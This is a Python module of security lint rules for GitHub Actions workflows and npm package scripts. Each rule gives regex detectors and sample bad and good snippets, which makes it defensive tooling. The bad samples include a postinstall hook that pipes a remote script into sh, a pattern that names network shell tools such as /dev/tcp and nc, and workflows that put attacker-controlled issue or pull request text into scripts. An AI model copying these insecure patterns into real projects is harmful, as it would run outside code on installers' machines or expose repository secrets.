"""Pipelines and package scripts: who may run what with whose rights."""

from typing import Final

from verify_lsp.security.rule import Entry, Rule, Text

_FOREIGN: Final = (
    r"\$\{\{[^}]*\bgithub\.(?:head_ref|event\.(?:issue|pull_request|discussion)\.(?:title|body)|event\.pull_request\.head\.(?:ref|label|repo\.default_branch)|"
    r"event\.(?:comment|review|review_comment)\.body|event\.pages\b[^}]*\.page_name|event\.(?:commits\b[^}]*|head_commit)\.(?:message|author\.(?:email|name))|"
    r"event\.workflow_run\.(?:head_branch|head_commit\.message|display_title|pull_requests[^}]*\.head\.ref))\b"
)

RULES: Final = (
    Rule(
        id="gha-script-injection",
        title="A workflow puts somebody's words into a script",
        severity="high",
        languages=("workflow",),
        anchors=("github.event.", "github.head_ref"),
        match=(Entry(r"(?:^|\.)run\.$|\.with\.(?:script|inlineScript|command|run|cmd)\.$", _FOREIGN),),
        file=_FOREIGN,
        message="Whoever opens a pull request or an issue writes a part of this script",
        suggestion='Pass the value through `env:` and use it as `"$NAME"`.',
        cwe=("CWE-94", "CWE-78"),
        bad=(
            'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
            "on: pull_request_target\njobs:\n  a:\n    steps:\n      - name: x\n        run: |\n          git log\n          echo ${{ github.head_ref }}\n",
            "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.info(`${{ github.event.comment.body }}`)\n",
        ),
        good=(
            'jobs:\n  a:\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
            "jobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}\n",
            "concurrency:\n  group: ${{ github.head_ref }}\n",
            "jobs:\n  a:\n    if: contains(github.event.issue.title, 'x')\n    steps: []\n",
        ),
    ),
    Rule(
        id="gha-untrusted-checkout",
        title="Foreign code runs with the repository's secrets",
        severity="critical",
        languages=("workflow",),
        anchors=("github.event.pull_request.head", "github.head_ref", "refs/pull/", "github.event.workflow_run.head_"),
        match=(
            Entry(
                r"\.with\.ref\.$",
                r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs/pull/\$\{\{.*\}\}/(?:merge|head)|github\.event\.workflow_run\.head_(?:sha|branch)",
            ),
            Entry(
                r"(?:^|\.)run\.$",
                r"(?:gh pr checkout|git (?:fetch|checkout)).*(?:github\.event\.pull_request\.head|github\.head_ref|refs/pull/)",
            ),
        ),
        file=r"(?m)^\s*[\"']?(?:pull_request_target|workflow_run)[\"']?\s*:|^on:\s*[\[\"']?.*(?:pull_request_target|workflow_run)",
        message="`pull_request_target` and `workflow_run` have the repository's secrets, and this checks out code that anybody may send",
        suggestion="Use `pull_request`, or look at the pull request without running its code.",
        cwe=("CWE-829",),
        bad=(
            "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
        ),
        good=(
            "on:\n  pull_request:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
            "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n",
        ),
    ),
    Rule(
        id="gha-unpinned-action",
        title="A workflow runs whatever an action's branch holds",
        severity="low",
        languages=("workflow",),
        anchors=("uses:",),
        after=r"\s{1,8}[\"']?[\w./-]{3,200}@(?:main|master|HEAD|dev|latest|trunk|next)",
        match=(
            Entry(
                r"(?:^|\.)uses\.$", r"^[\"']?[\w.-]+/[\w./-]+@(?:main|master|HEAD|develop|dev|latest|trunk|next)[\"']?$"
            ),
        ),
        message="Whoever can push to that branch runs commands here",
        suggestion="Name a release, or better the commit's full hash.",
        cwe=("CWE-829",),
        bad=("jobs:\n  a:\n    steps:\n      - uses: acme/deploy@main\n",),
        good=(
            "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n",
            "jobs:\n  a:\n    steps:\n      - uses: ./local\n",
        ),
    ),
    Rule(
        id="gha-write-all",
        title="A workflow has every right on the repository",
        severity="medium",
        languages=("workflow",),
        anchors=("write-all",),
        match=(Entry(r"(?:^|\.)permissions\.$", r"^[\"']?write-all[\"']?$"),),
        message="Each step, and each action it uses, may write to the whole repository",
        suggestion="Grant the rights that the job needs: `contents: read`.",
        cwe=("CWE-250",),
        bad=("permissions: write-all\n",),
        good=("permissions: read-all\n", "permissions:\n  contents: write\n"),
    ),
    Rule(
        id="gha-secret-printed",
        title="A workflow prints a secret",
        severity="medium",
        languages=("workflow",),
        anchors=("secrets.",),
        match=(
            Entry(
                r"(?:^|\.)run\.$", r"(?m)^\s*(?:-\s*)?(?:echo|printf)\s[^|>\n]*\$\{\{\s*secrets\.\w+\s*\}\}[^|>\n]*$"
            ),
        ),
        file=r"(?:echo|printf)\s[^|>\n]*\$\{\{\s*secrets\.",
        message="Logs hide a secret only in the very form it is stored in",
        suggestion="Do not print it; pass it on through `env:`.",
        cwe=("CWE-532",),
        bad=('jobs:\n  a:\n    steps:\n      - run: echo "${{ secrets.TOKEN }}"\n',),
        good=(
            'jobs:\n  a:\n    steps:\n      - run: echo "${{ secrets.TOKEN }}" | docker login --password-stdin\n',
            "jobs:\n  a:\n    steps:\n      - run: deploy\n        env:\n          T: ${{ secrets.TOKEN }}\n",
        ),
    ),
    Rule(
        id="gha-unsecure-commands",
        title="A workflow lets printed text set variables",
        severity="medium",
        languages=("workflow",),
        anchors=("ACTIONS_ALLOW_UNSECURE_COMMANDS",),
        match=(Entry(r"ACTIONS_ALLOW_UNSECURE_COMMANDS\.$", r"(?i)^[\"']?true[\"']?$"),),
        message="Whatever a step prints may change the environment of the next",
        suggestion="Write to `$GITHUB_ENV` instead.",
        cwe=("CWE-94",),
        bad=("env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n",),
        good=("env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n",),
    ),
    Rule(
        id="npm-install-script",
        title="A package runs a command when it is installed",
        severity="medium",
        languages=("json",),
        anchors=('"preinstall"', '"postinstall"', '"install"'),
        match=(
            Text(
                r"""^\s*"(?:preinstall|install|postinstall)"\s*:\s*".*(?:curl |wget |https?://|base64|\beval\b|node -e|python3? -c|powershell|/dev/tcp|\bnc |\| *sh\b|\bsh -c|child_process|\bbash )"""
            ),
        ),
        file=r'"scripts"\s*:',
        message="Everybody who installs the package runs this command",
        suggestion="Do it in a build step that people start themselves.",
        cwe=("CWE-506",),
        bad=(
            '#! package.json\n{\n  "scripts": {\n    "postinstall": "curl -s https://x.io/a | sh"\n  }\n}',
            '#! package.json\n{\n  "scripts": {\n    "preinstall": "node -e \\"require(\'x\')\\""\n  }\n}',
        ),
        good=(
            '#! package.json\n{\n  "scripts": {\n    "postinstall": "husky install"\n  }\n}',
            '#! package.json\n{\n  "scripts": {\n    "postinstall": "patch-package"\n  }\n}',
        ),
    ),
)
